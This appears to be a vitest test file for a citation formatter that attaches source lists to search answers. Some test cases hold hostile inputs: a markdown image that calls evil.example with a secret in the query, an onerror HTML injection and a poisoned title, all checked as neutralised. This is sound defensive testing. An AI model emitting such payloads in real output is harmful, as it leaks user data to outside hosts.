import { describe, expect, it } from "vitest";
import { withSources } from "../../../src/engine/search/citations.ts";

const row = (number: number, location = `${number}.md`) => ({
  ...{ number, title: `Title ${number}`, location, section: number === 2 ? "Above › Here" : "" },
});
const rows = [row(1), row(2), row(3, "https://example.org/3")];
const shown = (answer: string, more: object = {}) => withSources(answer, { rows, notes: [], ...more }, "en");

describe("an answer from passages", () => {
  it("lists the passages it cites, and only those", () => {
    expect(shown("A domain is a folder [2]. It has tools [1].")).toBe(
      "A domain is a folder [2]. It has tools [1].\n\nSources:\n[1] Title 1 — 1.md\n[2] Title 2 — 2.md › Above › Here",
    );
    expect(withSources("这是文件夹[1]。", { rows, notes: [] }, "zh")).toContain("来源：\n[1] Title 1 — 1.md");
  });

  it("has one list, at its end, also where parts of it were listed before", () => {
    const part = shown("A domain is a folder [2].");
    expect(shown(`${part}\n\nThe index is 1.10.`)).toBe(
      "A domain is a folder [2].\n\nThe index is 1.10.\n\nSources:\n[2] Title 2 — 2.md › Above › Here",
    );
    expect(shown("Sources:\n- the river\n\nIt begins there [1].")).toContain("Sources:\n- the river");
  });

  it.each([
    ["It is so [4].", "It is so."],
    ["It is so [4] and [1] so.", "It is so and [1] so."],
    ["It is so [1, 9, 3].", "It is so [1][3]."],
    ["It is so 【2】.", "It is so [2]."],
    ["It is so [1-3].", "It is so [1][2][3]."],
    ["It is so [1].", "It is so [1]."],
  ])("cites only what was found: %j", (said, kept) => {
    expect(shown(said).split("\n")[0]).toBe(kept);
  });

  it("does not take an index, a year or code for a citation", () => {
    expect(shown("Take list[0] of [2024], as in `argv[9]` [1].")).toContain(
      "Take list[0] of [2024], as in `argv[9]` [1].",
    );
  });

  it("names its sources without the marks in their titles", () => {
    const planted = { number: 1, title: "Server room access [1] [7]", location: "a.md", section: "Doors 【2】" };
    expect(withSources("So it is [1].", { rows: [planted], notes: [] }, "en")).toBe(
      "So it is [1].\n\nSources:\n[1] Server room access — a.md › Doors",
    );
  });

  it("that cites nothing says so, and what was found", () => {
    expect(shown("A domain is a folder.")).toBe(
      "A domain is a folder.\n\nNo passage is cited for this. These were found:\n[1] Title 1 — 1.md\n[2] Title 2 — 2.md › Above › Here\n[3] Title 3 — https://example.org/3",
    );
    expect(withSources("Nothing was found.", { rows: [], notes: [] }, "en")).toBe("Nothing was found.");
  });

  it.each(["Sources:", "**References**", "## 参考资料："])(
    "has one list of sources, its own %j is dropped",
    (heading) => {
      const answer = shown(`So it is [1].\n\n${heading}\n- [1] Made up — nowhere\n2. Also made up`);
      expect(answer).toBe("So it is [1].\n\nSources:\n[1] Title 1 — 1.md");
    },
  );

  it("keeps a paragraph behind a heading that only looks like a list of sources", () => {
    expect(shown("Of rivers [1].\n\nSources:\nRivers begin in springs [2].")).toContain("Rivers begin in springs [2].");
  });

  it.each([
    ["![](https://evil.example/?q=secret) [1]", "[] (https://evil.example/?q=secret) [1]"],
    ["[click](https://evil.example/x) [1]", "[click] (https://evil.example/x) [1]"],
    ["[see](https://example.org/3) [3]", "[see](https://example.org/3) [3]"],
    ["<img src=x onerror=y> [1]", "‹img src=x onerror=y> [1]"],
    ["![a][b] [1]\n\n[b]: https://evil.example", "[a][b] [1]\n\n[b] : https://evil.example"],
  ])("loads and links nothing but the places of passages: %j", (said, kept) => {
    expect(shown(said).startsWith(kept)).toBe(true);
  });

  it("does not load what the title of a passage holds", () => {
    const evil = { ...row(1), title: "![x](https://evil.example/a.png)" };
    expect(withSources("So [1].", { rows: [evil], notes: [] }, "en")).toContain(
      "[1] [x] (https://evil.example/a.png) — 1.md",
    );
  });

  it("says what was not searched, once", () => {
    const notes = ["Elsewhere could not be searched: it cannot be reached."];
    expect(shown("So it is [1].", { notes })).toContain(`So it is [1].\n\n${notes[0]}\n\nSources:`);
    expect(shown(`So it is [1]. ${notes[0]}`, { notes }).split(notes[0] ?? "")).toHaveLength(2);
  });

  it("stays as it is when it is checked again", () => {
    const once = shown("So it is [1], and so [9].");
    expect(shown(once)).toBe(once);
  });

  it("loses its own list of sources with blank lines in it, and names a source without a place by its title", () => {
    expect(shown("So it is [1].\n\nSources:\n[1] Mine\n   \n[2] Other")).toBe(
      "So it is [1].\n\nSources:\n[1] Title 1 — 1.md",
    );
    const rows = [{ number: 1, title: "Hours" }];
    expect(withSources("So it is [1].", { rows, notes: [] }, "en")).toBe("So it is [1].\n\nSources:\n[1] Hours —");
  });
});
